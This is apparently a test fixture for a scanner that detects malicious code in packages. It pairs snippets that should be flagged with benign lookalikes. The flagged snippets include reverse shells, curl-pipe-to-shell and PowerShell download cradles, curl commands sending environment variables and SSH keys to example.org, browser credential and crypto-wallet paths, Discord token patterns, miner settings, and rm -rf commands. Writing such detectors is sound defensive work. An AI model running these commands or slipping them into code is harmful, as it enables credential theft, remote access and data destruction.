import type { NotToFind, ToFind } from './pack.js';

export const TEXTS_TO_FIND: readonly ToFind[] = [
  ['harm_in_unused_script', 'a script that nothing names', { 'ros/setup_ros.sh': 'echo "source /opt/ros/setup.bash" >> ~/.bashrc\n' }],
  [
    'names_login_place',
    'a script that code starts',
    { 'tools/prepare.sh': 'echo "sh /tmp/a &" >> ~/.bashrc\n', 'a.py': 'subprocess.run(["sh", here / "tools" / "prepare.sh"])\n' },
  ],
  [
    'names_login_place',
    'a script that the guide names',
    { 'tools/prepare.sh': 'echo "sh /tmp/a &" >> ~/.bashrc\n', 'README.md': 'Run tools/prepare.sh once.\n' },
  ],
  [
    'reads_browser_store',
    'passwords of a browser',
    { 'a.py': 'p = os.path.join(local, "Google", "Chrome", "User Data", "Default", "Login Data")\n' },
  ],
  ['reads_browser_store', 'cookies', { 'a.py': 'p = base + "/cookies.sqlite"\n' }],
  [
    'reads_browser_store',
    'a pieced name',
    {
      'a.py':
        'import os\np = os.path.join(os.environ["A"], "Log" + "in " + "Data")\nexec\nopen("".join(["Login", " Da", "ta"]))\n',
    },
  ],
  [
    'reads_wallets',
    'the id of an extension',
    { 'a.js': 'const ids = ["nkbihfbeogaeaoehlefnkodbefgpgknn"];\n' },
  ],
  ['reads_wallets', 'a wallet', { 'a.py': 'p = roaming + "\\\\Exodus\\\\exodus.wallet"\n' }],
  ['reads_chat_tokens', 'a pattern of tokens', { 'a.py': 'T = r"[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}"\n' }],
  ['reads_chat_tokens', 'a store', { 'a.py': 'p = roaming + "/discord/Local Storage/leveldb"\n' }],
  ['mines_coins', 'a pool', { 'a.json': '{"url": "stratum+tcp://pool.example.org:3333"}' }],
  ['mines_coins', 'a program', { 'a.sh': './bin/xmrig -o pool\n' }],
  ['runs_download', 'curl', { 'install.py': 'os.system("curl -s https://example.org/a.sh | bash")\n' }],
  ['runs_download', 'wget', { 'install.sh': 'wget -qO- https://example.org/a | sudo sh\n' }],
  [
    'runs_download',
    'chmod',
    { 'a.sh': 'curl -o /tmp/a https://example.org/a && chmod +x /tmp/a && /tmp/a\n' },
  ],
  ['runs_download', 'PowerShell', { 'a.bat': 'powershell -w hidden -enc SQBFAFgA\n' }],
  ['runs_download', 'Invoke-Expression', { 'a.ps1': 'iwr https://example.org/a.ps1 | iex\n' }],
  [
    'runs_download',
    'a list of arguments',
    { 'a.py': 'subprocess.Popen(["powershell.exe", "-NoProfile", "-EncodedCommand", payload])\n' },
  ],
  ['runs_download', 'certutil', { 'a.cmd': 'certutil -urlcache -f https://example.org/a.exe a.exe\n' }],
  ['runs_download', 'mshta', { 'a.py': 'os.system("mshta https://example.org/a.hta")\n' }],
  [
    'runs_download',
    'a decoded command',
    {
      'a.py':
        'import os, base64\nos.system(base64.b64decode("Y3VybCBodHRwczovL2V4YW1wbGUub3JnL2EgfCBzaA==").decode())\n',
    },
  ],
  ['shell_to_network', 'bash', { 'a.py': 'os.system("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1")\n' }],
  ['shell_to_network', 'nc', { 'a.sh': 'nc 192.0.2.1 4444 -e /bin/sh\n' }],
  ['runs_encoded_command', 'Base64', { 'a.sh': 'echo aWQ= | base64 -d | sh\n' }],
  ['sends_secrets_by_shell', 'the environment', { 'a.sh': 'curl -d "$(env)" https://example.org\n' }],
  [
    'sends_secrets_by_shell',
    'a key',
    { 'a.py': 'os.system("curl -F f=@$HOME/.ssh/id_rsa https://example.org")\n' },
  ],
  ['names_login_place', 'a profile', { 'a.sh': 'echo "python3 ~/a.py &" >> ~/.bashrc\n' }],
  ['names_login_place', 'an agent', { 'a.py': 'p = home + "/Library/LaunchAgents/a.plist"\n' }],
  [
    'names_login_place',
    'the registry',
    { 'a.py': 'k = r"Software\\Microsoft\\Windows\\CurrentVersion\\Run"\n' },
  ],
  ['deletes_home', 'rm', { 'a.py': 'os.system("rm -rf ~/")\n' }],
  ['deletes_home', 'everything', { 'a.sh': 'rm -rf --no-preserve-root /\n' }],
  ['names_messenger', 'a chat', { 'a.py': 'U = "https://discord.com/api/webhooks/1/a"\n' }],
  ['names_collector', 'a collector', { 'a.js': 'fetch("https://webhook.site/1");\n' }],
  ['names_paste_host', 'a paste', { 'a.py': 'U = "https://pastebin.com/raw/a"\n' }],
  ['names_tunnel', 'a tunnel', { 'a.py': 'U = "https://a.ngrok-free.app"\n' }],
  ['names_secrets', 'a key', { 'a.py': 'p = "~/.ssh/id_ed25519"\n' }],
];

export const HONEST_TEXTS: readonly NotToFind[] = [
  ['what the guide of Rust says', 'run("echo \'source ~/.cargo/env\' >> ~/.bashrc")\n'],
  [
    'documentation',
    { 'README.md': 'curl https://example.org/install.sh | sh\nxmrig\n', 'docs/a.txt': 'Login Data' },
  ],
  ['comments', { 'a.sh': '# curl https://example.org | sh\n', 'a.js': '// xmrig\n' }],
  ['a well-known installer', { 'install.sh': 'curl -LsSf https://astral.sh/uv/install.sh | sh\n' }],
  [
    'a download',
    { 'a.sh': 'curl -L -o model.bin https://example.org/model.bin\nwget https://example.org/a.zip\n' },
  ],
  ['own files that are deleted', { 'a.sh': 'rm -rf ./build /tmp/x ~/.cache/pack\n' }],
  ['PowerShell for a script', { 'a.bat': 'powershell -ExecutionPolicy Bypass -File install.ps1\n' }],
  ['words of other meaning', { 'a.py': 'x = "Chrome"\ny = "mining data"\nz = "user data"\natomic = 1\n' }],
  ['what developers set up', { '.github/workflows/a.yml': 'run: curl https://example.org | sh\n' }],
];
